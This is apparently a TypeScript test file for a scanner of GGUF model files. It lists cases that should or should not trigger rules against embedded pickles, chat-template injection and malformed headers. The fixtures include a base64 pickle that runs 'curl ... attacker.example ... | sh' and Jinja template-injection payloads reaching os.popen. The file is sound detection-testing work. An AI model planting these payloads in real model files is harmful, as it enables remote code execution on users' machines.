/**
 * Rule cases of the GGUF rules (firing and non-firing file trees).
 * Test-time only (imports the test-fixture builders and reads test-fixtures/real); run end to end by
 * the engine's rule-case test and in process by src/model-scanners/rule-cases.test.ts.
 */
import { readFileSync } from 'node:fs';
import type { RuleCase, RuleCases } from '../../rules/index.js';
import { ruleCases } from '../../rules/index.js';
import { benignGguf, ggufFile } from '../../../test-fixtures/gguf-builder.js';
import { pickle, tuple } from '../../../test-fixtures/pickle-builder.js';

const EVIL_B64 = Buffer.from(pickle((b) => b.proto(2).global('os', 'system').value(tuple('curl -s http://attacker.example/x | sh')).reduce().stop())).toString('base64');


const REAL = new URL('../../../test-fixtures/real/', import.meta.url);
const real = (name: string) => (): Uint8Array => readFileSync(new URL(name, REAL));

const REAL_GGUF: RuleCase = { name: 'real GGUF with a Llama 3 chat template (gguf-py)', files: { 'model.gguf': real('tiny-chat.gguf') } };

export const GGUF_RULE_CASES: readonly RuleCases[] = [
  ruleCases('gguf/embedded-object', {
    valid: [REAL_GGUF],
    invalid: [
      {
        name: 'a base64 pickle in general.description',
        files: { 'model.gguf': () => benignGguf(undefined, { kv: [['general.architecture', { type: 'string', value: 'llama' }], ['general.description', { type: 'string', value: EVIL_B64 }]] }) },
        expect: { severity: 'medium', messageIncludes: 'base64-encoded pickle' },
      },
    ],
  }),
  ruleCases('gguf/chat-template-injection', {
    valid: [REAL_GGUF],
    invalid: [
      { name: 'cycler.__init__.__globals__.os.popen', files: { 'model.gguf': () => benignGguf("{{ cycler.__init__.__globals__.os.popen('id').read() }}") }, expect: { severity: 'critical' } },
      { name: 'string-built attribute name', files: { 'model.gguf': () => benignGguf("{{ ()|attr('__cla' ~ 'ss__') }}") }, expect: { severity: 'critical' } },
    ],
  }),
  ruleCases('gguf/malformed-header', {
    valid: [REAL_GGUF],
    invalid: [{ name: 'metadata count that cannot fit', files: { 'model.gguf': () => ggufFile({ kvCountOverride: 100_000n }) } }],
  }),
  ruleCases('gguf/tensor-data-layout', {
    valid: [REAL_GGUF],
    invalid: [{ name: 'tensor past the end of the file', files: { 'model.gguf': () => ggufFile({ tensors: [{ name: 'a', dims: [1024], type: 0 }], dataLength: 64 }) } }],
  }),
  ruleCases('gguf/duplicate-key', {
    valid: [REAL_GGUF],
    invalid: [
      {
        name: 'two chat templates',
        files: {
          'model.gguf': () =>
            ggufFile({
              kv: [
                ['tokenizer.chat_template', { type: 'string', value: '{{ messages }}' }],
                ['tokenizer.chat_template', { type: 'string', value: '{{ messages|length }}' }],
              ],
            }),
        },
      },
    ],
  }),
];
